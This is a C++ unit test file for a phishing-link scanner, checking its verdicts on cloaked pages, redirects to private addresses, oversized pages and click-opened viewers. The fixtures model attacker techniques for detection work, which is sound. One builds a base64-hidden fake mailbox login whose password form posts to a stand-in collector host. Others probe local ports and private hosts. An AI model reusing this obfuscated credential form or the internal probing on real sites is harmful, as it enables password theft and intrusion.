// Who visits a link, in which order, and what comes of it.
#include "scan/link_look.h"

#include "base/base64.h"
#include "scan/looking_for_test.h"

namespace linkgate::scan {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::Field;
using testing::HasSubstr;
using verdict::Disposition;
using verdict::Page;

using LinkLookTest = LookingTest;

TEST_F(LinkLookTest, APageThatTheFetchCondemnsIsNotOpenedInABrowser) {
  pages_.pages["fetch https://a.example/"] = asks_for_password("https://a.example/");
  EXPECT_EQ(ask("https://a.example/", api::CheckMoment::kClick).get().disposition, Disposition::kPhishing);
  EXPECT_THAT(pages_.looked(), ElementsAre("fetch https://a.example/"));
  // Where nobody waits, a program asks as well: that it is shown something else is worth knowing.
  pages_.pages["bot https://a.example/"] =
      page_at("https://a.example/", "A bakery that bakes bread and more");
  const auto verdict = ask("https://a.example/").get();
  EXPECT_EQ(verdict.disposition, Disposition::kPhishing);
  EXPECT_THAT(verdict.evidence, Contains(Field(&verdict::Evidence::code, "page.differs")));
}

TEST_F(LinkLookTest, WhatIsShownToTelephonesOrToOtherLanguagesAloneCondemns) {
  options_.languages = {"en-US", "de-DE"};
  for (const char* visitor : {"mobile ", "german "}) {
    pages_.pages.clear();
    pages_.pages["fetch https://a.example/"] = page_at("https://a.example/", "Lentil soup for a cold day");
    pages_.pages[visitor + std::string("https://a.example/")] = asks_for_password("https://a.example/");
    const auto verdict = ask("https://a.example/", api::CheckMoment::kClick).get();
    EXPECT_EQ(verdict.disposition, Disposition::kPhishing) << visitor;
    EXPECT_THAT(verdict.evidence, Contains(Field(&verdict::Evidence::code, "page.differs")));
  }
}

TEST_F(LinkLookTest, AnotherVisitorsPageOfScriptsIsOpenedAsHimOnlyWhereItDiffers) {
  Page shell = page_at("https://a.example/", "A shop of lamps of brass and of glass and of paper");
  shell.inline_scripts.push_back("go()");
  pages_.pages["fetch https://a.example/"] = pages_.pages["render https://a.example/"] = shell;
  EXPECT_EQ(scan("https://a.example/").disposition, Disposition::kClean);
  EXPECT_THAT(pages_.looked(), testing::Not(Contains(HasSubstr("render mobile"))));
  Page other = shell;
  other.visible_text = "One moment please while we look for your parcel which is not here yet";
  pages_.pages["mobile https://a.example/"] = other;
  pages_.pages["render mobile https://a.example/"] = asks_for_password("https://a.example/");
  EXPECT_EQ(ask("https://a.example/").get().disposition, Disposition::kPhishing);
}

TEST_F(LinkLookTest, WhoeverHangsIsNotVisitedTwice) {
  Page slow = page_at("https://a.example/", "");
  slow.trouble = "the answer did not end in time";
  pages_.pages["fetch https://a.example/"] = pages_.pages["render https://a.example/"] = slow;
  EXPECT_EQ(scan("https://a.example/").disposition, Disposition::kUnknown);
  EXPECT_THAT(pages_.looked(), ElementsAre("fetch https://a.example/", "render https://a.example/"));
}

TEST_F(LinkLookTest, NoBrowserIsSentIntoACircleOrAGigabyte) {
  Page circle = page_at("https://a.example/", "");
  for (int i = 0; i < 3; ++i) circle.chain.push_back({"https://a.example/", verdict::HopKind::kHttp, 302});
  Page large = page_at("https://b.example/", "");
  large.html.assign(8 << 20, 'x');
  circle.inline_scripts = large.inline_scripts = {"go()"};
  circle.trouble = "it leads in a circle";
  large.trouble = "larger than 8388608 bytes";
  pages_.pages["fetch https://a.example/"] = circle;
  pages_.pages["fetch https://b.example/"] = large;
  EXPECT_EQ(scan("https://a.example/").disposition, Disposition::kUnknown);
  EXPECT_EQ(ask("https://b.example/").get().disposition, Disposition::kUnknown);
  EXPECT_THAT(pages_.looked(), ElementsAre("fetch https://a.example/", "fetch https://b.example/"));
}

TEST_F(LinkLookTest, APageThatAScriptKeepsEncodedIsJudgedAsIfItWereShown) {
  Page page = page_at("https://a.example/", "A carpenter's workshop");
  page.inline_scripts.push_back(
      "onscroll=function(){document.write(atob('" +
      base64_encode("<!doctype html><title>Mail</title><p>Your mailbox is full. Keep the same password." +
                    std::string(300, ' ') +
                    "<form action=https://collector.example/post.php method=post><input type=password "
                    "name=p placeholder=Password></form>") +
      "'))}");
  pages_.pages["fetch https://a.example/"] = page;
  const auto verdict = scan("https://a.example/");
  EXPECT_EQ(verdict.disposition, Disposition::kPhishing);
  EXPECT_THAT(verdict.evidence, Contains(Field(&verdict::Evidence::code, "script.unpacks_page")));
}

TEST_F(LinkLookTest, APageThatSendsPeopleElsewhereThanProgramsIsSuspicious) {
  Page person = page_at("https://a.example/", "Offers of the week");
  person.chain.push_back({"https://b.example/", verdict::HopKind::kHttp, 200});
  pages_.pages["fetch https://a.example/"] = person;
  pages_.pages["bot https://a.example/"] = page_at("https://a.example/", "A bakery");
  EXPECT_EQ(scan("https://a.example/").disposition, Disposition::kSuspicious);
}

TEST_F(LinkLookTest, ARedirectToWhatIsNotPublicIsSuspiciousAndNotFollowed) {
  Page page = page_at("https://a.example/", "");
  page.chain.push_back({"http://192.168.0.1/admin", verdict::HopKind::kHttp, 0});
  page.requests.push_back({"http://192.168.0.1/admin", "document", 0, true, true});
  page.trouble = "192.168.0.1 leads to 192.168.0.1: private";
  pages_.pages["fetch https://a.example/"] = page;
  const auto verdict = scan("https://a.example/");
  EXPECT_EQ(verdict.disposition, Disposition::kSuspicious);
  EXPECT_THAT(verdict.evidence, Contains(Field(&verdict::Evidence::code, "redirect.inward")));
  EXPECT_THAT(pages_.looked(), ElementsAre("fetch https://a.example/"));
  // A firm's own name for a machine of its own.
  page.chain.front().url = "https://vpn.firm.example/";
  page.chain.back().url = page.requests.back().url = "https://box.firm.example/";
  pages_.pages["fetch https://vpn.firm.example/"] = page;
  EXPECT_EQ(ask("https://vpn.firm.example/").get().disposition, Disposition::kUnknown);
}

TEST_F(LinkLookTest, APageThatAsksManyPrivateHostsIsSuspiciousAndOneThatAsksOneIsNot) {
  Page page = page_at("https://a.example/", "A weather station");
  page.inline_scripts.push_back("look()");
  pages_.pages["fetch https://a.example/"] = page;
  page.is_rendered = true;
  for (int port = 1; port < 9; ++port)
    page.requests.push_back({"http://127.0.0.1:" + std::to_string(port) + "/", "fetch", 0, true, true});
  pages_.pages["render https://a.example/"] = page;
  const auto one = scan("https://a.example/");
  EXPECT_EQ(one.disposition, Disposition::kClean);
  EXPECT_THAT(one.evidence, Contains(Field(&verdict::Evidence::code, "page.inward")));
  for (int host = 1; host < 9; ++host)
    page.requests.push_back({"http://192.168.0." + std::to_string(host) + "/", "fetch", 0, true, true});
  pages_.pages["render https://a.example/"] = page;
  EXPECT_EQ(ask("https://a.example/").get().disposition, Disposition::kSuspicious);
}

TEST_F(LinkLookTest, WhatAPressOpensIsLookedAtAsTheSamePersonAndCondemns) {
  Page page = page_at("https://a.example/", "Your document is ready");
  page.html = "<button onclick=\"window.open('/viewer')\">Open</button>";
  pages_.pages["fetch https://a.example/"] = page;
  pages_.pages["fetch https://a.example/viewer"] = page_at("https://a.example/viewer", "A bakery");
  EXPECT_EQ(scan("https://a.example/").disposition, Disposition::kClean);
  pages_.pages["fetch https://a.example/viewer"] = asks_for_password("https://a.example/viewer");
  const auto verdict = ask("https://a.example/").get();
  EXPECT_EQ(verdict.disposition, Disposition::kPhishing);
  EXPECT_THAT(verdict.evidence, Contains(Field(&verdict::Evidence::code, "page.press")));
}

}  // namespace
}  // namespace linkgate::scan
